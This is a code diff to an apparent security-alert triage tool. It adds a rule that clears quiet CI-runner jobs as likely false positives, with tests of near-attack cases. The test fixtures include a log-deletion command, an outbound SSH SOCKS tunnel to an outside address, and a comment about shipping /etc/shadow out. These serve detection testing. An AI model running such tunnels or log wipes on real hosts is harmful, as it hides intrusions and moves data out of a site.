@@ -16,8 +16,8 @@ use serde_json::{json, Value as Json};
 use crate::catalogue::{shipped_executable, Catalogue};
 use crate::cluster::{cluster, target, Cluster};
 use crate::evidence::{
-    activity, actor, in_drop_dir, is_credential, plain_service_command, scheduled_job,
-    target_sensitivity, unattended, Activity, Sensitivity,
+    activity, actor, in_drop_dir, is_credential, job_launcher, plain_service_command,
+    scheduled_job, target_sensitivity, unattended, Activity, Sensitivity,
 };
 use crate::history::History;
 use crate::input::{alerts, text, value_int, value_text, Alert, Fields, Record};
@@ -738,6 +738,7 @@ impl Triage<'_> {
         // (a backup server, a database probe), and credentials it reads are not stolen
         // while nothing in its session reached outside the site (issue 11).
         let job = scheduled_job(ev);
+        let launcher = job_launcher(ev);
         let reached_outside = ctx.iter().any(|c| c.act.outside);
         let outbound = ctx
             .iter()
@@ -1022,6 +1023,26 @@ impl Triage<'_> {
                 // Only from a session quell saw as events: bare alerts say nothing of it.
                 out.push(hit("session_quiet", 1.0, Vec::new()));
             }
+        }
+        // A job nobody entered (a scheduler's, init's or a CI runner's, no service in its
+        // lineage), run by the system's own executable, whose session quell saw with
+        // nothing in it toward an attack (issue 11: unattended by lineage shape, not by a
+        // catalogue of names). A sensitive or persistence target read or written by a job
+        // that also reached outside the site does not qualify (a cron job shipping
+        // /etc/shadow out).
+        let sensitive_target = matches!(
+            target_sensitivity(ev),
+            Some((_, Sensitivity::High | Sensitivity::Persistence))
+        );
+        if let Some(l) = launcher.as_ref().filter(|_| {
+            kinds.is_empty()
+                && dropped.is_none()
+                && a.network_stdio.is_none()
+                && shipped_executable(ev)
+                && !(sensitive_target && reached_outside)
+                && sessions.seen(records, at)
+        }) {
+            out.push(hit("job_quiet", 1.0, vec![("launcher", l.clone())]));
         }
         let installed = ctx.iter().any(|c| {
             matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
@@ -1994,6 +2015,77 @@ mod tests {
             with.summary
         );
         assert_ne!(with.cluster, clean.cluster);
+    }
+
+    /// Issue 11 (recall): a CI runner's job whose session quell saw with nothing in it
+    /// toward an attack, run by the system's own program, is anchored by its lineage shape
+    /// (runner → job shell), with no catalogue entry. The near-attacks are not: the same
+    /// act from a cron job or from a process re-parented to init (an intruder's `setsid cmd
+    /// &` looks like an agent), by a program that is not the system's own, at a terminal,
+    /// or after the job opened an ssh tunnel to an address outside the site.
+    #[test]
+    fn a_quiet_ci_job_is_anchored_by_its_lineage_and_its_near_attacks_are_not() {
+        let job = |sid: i64,
+                   lineage: serde_json::Value,
+                   rm_exe: &str,
+                   before: Vec<serde_json::Value>| {
+            let mut evs = before;
+            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":10,"proc.name":"rm","proc.exepath":rm_exe,"proc.cmdline":"rm -f /var/log/build/job-7.log","proc.pname":"bash"}));
+            evs.push(json!({"evt.type":"unlinkat","evt.rawres":0,"evt.rawtime":11,"proc.name":"rm","proc.exepath":rm_exe,"proc.pname":"bash","fs.path.name":"/var/log/build/job-7.log"}));
+            evs.into_iter()
+                .map(|mut v| {
+                    v["proc.sid"] = json!(sid);
+                    for (k, val) in lineage.as_object().unwrap() {
+                        if v.get(k).is_none() {
+                            v[k] = val.clone();
+                        }
+                    }
+                    l(v)
+                })
+                .collect::<Vec<String>>()
+        };
+        let ci = json!({"proc.tty":0,"proc.aname[2]":"gitlab-runner","proc.aname[3]":"systemd"});
+        let r = verdict_of(
+            &job(800, ci.clone(), "/usr/bin/rm", vec![]),
+            "Clear Log Activities",
+        );
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(signals(&r[0]).contains(&"job_quiet"), "{:#?}", r[0]);
+        assert_eq!(r[0].anchor.as_deref(), Some("job_quiet (unattended)"));
+        let not_anchored = |lines: Vec<String>, why: &str| {
+            let r = verdict_of(&lines, "Clear Log Activities");
+            assert!(!r.is_empty(), "{why}");
+            for c in &r {
+                assert!(!signals(c).contains(&"job_quiet"), "{why}: {c:#?}");
+                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
+            }
+        };
+        let cron = json!({"proc.tty":0,"proc.aname[2]":"cron","proc.aname[3]":"systemd"});
+        not_anchored(job(801, cron, "/usr/bin/rm", vec![]), "cron");
+        let orphan = json!({"proc.tty":0,"proc.aname[2]":"systemd"});
+        not_anchored(
+            job(802, orphan, "/usr/bin/rm", vec![]),
+            "re-parented to init",
+        );
+        not_anchored(
+            job(803, ci.clone(), "/home/ci/bin/rm", vec![]),
+            "not the system's rm",
+        );
+        let tty = json!({"proc.tty":34816,"proc.aname[2]":"gitlab-runner"});
+        not_anchored(job(804, tty, "/usr/bin/rm", vec![]), "a terminal");
+        let tunnel = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.name":"ssh","proc.exepath":"/usr/bin/ssh","proc.cmdline":"ssh -D 1080 -N -p 443 -i /tmp/.id u@198.51.100.77"});
+        not_anchored(
+            job(805, ci.clone(), "/usr/bin/rm", vec![tunnel]),
+            "ssh tunnel out",
+        );
+        // The same tunnel to the site's own host is the job's work.
+        let inside = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":5,"proc.name":"ssh","proc.exepath":"/usr/bin/ssh","proc.cmdline":"ssh -N -L 5432:db:5432 deploy@10.0.4.7"});
+        let r = verdict_of(
+            &job(806, ci, "/usr/bin/rm", vec![inside]),
+            "Clear Log Activities",
+        );
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
     }
 
     /// Issue 11 (anchors): a CI runner's job running the test binary its compiler just
